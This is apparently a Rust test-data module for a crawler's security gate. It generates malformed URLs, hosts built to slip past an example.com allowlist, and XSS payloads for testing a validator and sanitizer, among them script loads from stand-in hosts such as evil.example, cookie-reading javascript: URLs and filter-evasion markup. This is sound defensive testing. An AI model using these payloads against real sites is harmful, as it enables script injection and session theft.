// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for gate abuse simulation.

/// Generate a pool of distinct domains.
pub fn generate_domains(count: usize) -> Vec<String> {
    (0..count).map(|i| format!("site-{}.example.net", i)).collect()
}

/// Generate crawlable URLs spread across `domains`, `per_domain` each.
pub fn generate_urls(domains: &[String], per_domain: usize) -> Vec<String> {
    domains
        .iter()
        .flat_map(|d| (0..per_domain).map(move |i| format!("https://{}/page/{}", d, i)))
        .collect()
}

/// URLs that must never pass the validator.
/// - Empty/whitespace: missing URL
/// - not-a-url, relative forms: parse failure
/// - ftp/file/javascript/data/mailto: invalid scheme
/// - https:// and friends: no host
pub fn generate_malformed_urls() -> Vec<&'static str> {
    vec![
        "",
        "   ",
        "not-a-url",
        "example.com/path",
        "//example.com/protocol-relative",
        "://missing-scheme.com/",
        "https://",
        "http://:80/",
        "ftp://wrong-scheme.com/",
        "javascript:alert(1)",
        "JavaScript:alert(document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "mailto:admin@example.com",
    ]
}

/// Hosts that try to sneak past an `example.com` allowlist.
///
/// Each contains `example.com` as a substring without being the domain or
/// one of its subdomains.
pub fn generate_allowlist_bypass_urls() -> Vec<&'static str> {
    vec![
        "https://example.com.evil.net/",
        "https://notexample.com/",
        "https://example.community/",
        "https://evil-example.com/",
        "https://www.example.com.attacker.io/login",
    ]
}

/// URLs an `example.com` allowlist must accept.
pub fn generate_legitimate_urls() -> Vec<&'static str> {
    vec![
        "https://example.com/",
        "http://example.com/index.html",
        "https://www.example.com/a?b=c",
        "https://deep.sub.EXAMPLE.com:8443/x#y",
    ]
}

/// Markup payloads carrying executable content, all well formed.
pub fn generate_xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script type=\"module\">\nimport('//evil')\n</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x ONERROR='alert(1)'>",
        "<body onload=\"steal()\">",
        "<a href=\"#\" onmouseover=\"x()\" onfocus='y()'>link</a>",
        "<svg/x onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<div onclick=\"x()\"onmouseover=\"y()\">glued</div>",
        "<style>body { background: url(javascript:alert(1)) }</style>",
        "<scr<script></script>ipt>alert(1)</script>",
        "<div\nonclick=\"x()\"\n>multi-line</div>",
    ]
}

/// Markup that must come through the sanitizer unchanged.
pub fn generate_benign_markup() -> Vec<&'static str> {
    vec![
        "",
        "plain text",
        "<p class=\"online\">Go online</p>",
        "<button data-onclick=\"noop\">ok</button>",
        "<pre>\n  indented\n\ttabbed\n</pre>",
        "<a href=\"https://example.com/\">link</a>",
        "<p>scripted=false, styled=true</p>",
    ]
}
